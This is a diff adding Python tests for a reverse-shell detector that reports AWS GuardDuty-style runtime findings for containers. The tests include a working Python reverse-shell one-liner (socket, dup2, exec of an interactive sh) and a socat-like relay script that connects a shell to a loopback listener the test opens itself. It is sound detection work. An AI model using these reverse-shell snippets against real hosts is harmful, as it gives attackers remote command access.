@@ -1,0 +1,103 @@
+"""Execution:Runtime/ReverseShell end to end: the real sidecar in the emulated task, real shells, real sockets.
+
+The finding must carry GuardDuty's shape (validated with detectors.finding.Finding), the task's identity from the
+metadata endpoint, the shell with its lineage, and the remote end; a shell reading a pipe, a client connection from
+a non-shell, and a non-interactive shell started by a relay without an exec option must not fire.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import socket
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+from taskenv import TaskEnv
+
+from detectors.finding import Finding
+
+PY = "/usr/bin/python3"
+TYPE = "Execution:Runtime/ReverseShell"
+
+
+@contextlib.contextmanager
+def listener(host: str = "127.0.0.1") -> Iterator[tuple[socket.socket, int]]:
+    srv = socket.socket()
+    srv.bind((host, 0))
+    srv.listen(4)
+    srv.settimeout(30)
+    try:
+        yield srv, srv.getsockname()[1]
+    finally:
+        srv.close()
+
+
+def test_reverse_shell_finding_and_benign_look_alikes(task_env: TaskEnv, tmp_path: Path) -> None:
+    sidecar = task_env.start_sidecar(
+        ["run", "--findings-out", str(tmp_path / "f.jsonl"), "--events-out", str(tmp_path / "e.jsonl")]
+    )
+    sidecar.wait_for_event(lambda e: e["kind"] == "process.exec", timeout=20)
+    time.sleep(1.5)
+    with listener("127.0.0.9") as (srv, port):
+        # benign first: a shell on a pipe, a python client holding a connection, both must stay quiet
+        task_env.run("app", ["sh", "-c", "echo 'sleep 0.5' | sh"])
+        client = f"import socket, time; s = socket.create_connection(('127.0.0.9', {port})); time.sleep(1.5)"
+        task_env.run("worker", [PY, "-c", client], wait=False)
+        srv.accept()[0].close()
+        code = (
+            f"import os, socket; s = socket.create_connection(('127.0.0.9', {port})); "
+            "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv('/bin/sh', ['sh', '-i'])"
+        )
+        shell_pid = task_env.spawn("app", [PY, "-c", code])
+        conn, _ = srv.accept()
+        with conn:
+            conn.sendall(b"sleep 2\n")
+            f = sidecar.wait_for_finding(lambda f: f["type"] == TYPE, timeout=20)
+            conn.sendall(b"exit\n")
+        time.sleep(1.0)
+    Finding.model_validate(f)
+    assert f["severity"] == 8.0
+    assert f["schemaVersion"] == "2.0" and f["service"]["featureName"] == "RuntimeMonitoring"
+    proc = f["service"]["runtimeDetails"]["process"]
+    assert proc["pid"] == shell_pid and proc["executablePath"] in ("/bin/dash", "/usr/bin/dash")
+    assert proc["lineage"], "the shell's ancestors are in the finding"
+    net = f["service"]["action"]["networkConnectionAction"]
+    assert net["remoteIpDetails"]["ipAddressV4"] == "127.0.0.9" and net["remotePortDetails"]["port"] == port
+    ecs = f["resource"]["ecsClusterDetails"]
+    assert ecs["taskDetails"]["arn"] == task_env.task_json["TaskARN"]
+    assert ecs["taskDetails"]["containers"][0]["name"] == "app"
+    assert f["accountId"] == task_env.task_json["TaskARN"].split(":")[4]
+    assert "app" in f["title"] and str(shell_pid) in f["description"]
+    assert sidecar.stop() == 0
+    findings = sidecar.findings()
+    assert {x["type"] for x in findings if x["severity"] >= 4} == {TYPE}, findings
+    assert len({x["id"] for x in findings if x["type"] == TYPE}) == 1
+
+
+def test_relay_started_shell(task_env: TaskEnv, tmp_path: Path) -> None:
+    """`socat exec:sh tcp:...`-style: the shell's stdio is a socketpair, the relay holds the connection."""
+    relay = task_env.path_in("app", "/tmp/socat")
+    relay.write_text(
+        "#!/usr/bin/python3\n"
+        "import os, socket, subprocess, sys\n"
+        "host, port = sys.argv[-1].rsplit(':', 2)[1:]\n"
+        "s = socket.create_connection((host, int(port)))\n"
+        "a, b = socket.socketpair()\n"
+        "p = subprocess.Popen(['sh', '-i'], stdin=b, stdout=b, stderr=b)\n"
+        "b.close(); a.sendall(b'sleep 2; exit\\n'); p.wait()\n"
+    )
+    relay.chmod(0o755)
+    sidecar = task_env.start_sidecar(["run", "--findings-out", str(tmp_path / "f.jsonl")])
+    time.sleep(3)
+    with listener("127.0.0.9") as (srv, port):
+        task_env.run("app", ["/tmp/socat", "-", f"exec:sh,pty tcp:127.0.0.9:{port}"], wait=False)
+        conn, _ = srv.accept()
+        f = sidecar.wait_for_finding(lambda f: f["type"] == TYPE, timeout=20)
+        conn.close()
+    assert f["service"]["runtimeDetails"]["context"]["relayProcess"] == "socat"
+    # a relay without an exec option running a shell script is not a reverse shell
+    task_env.run("worker", ["sh", "-c", "cp /bin/sh /tmp/socat2; echo ok"])
+    time.sleep(1)
+    assert sidecar.stop() == 0
+    assert [x["type"] for x in sidecar.findings()].count(TYPE) == 1
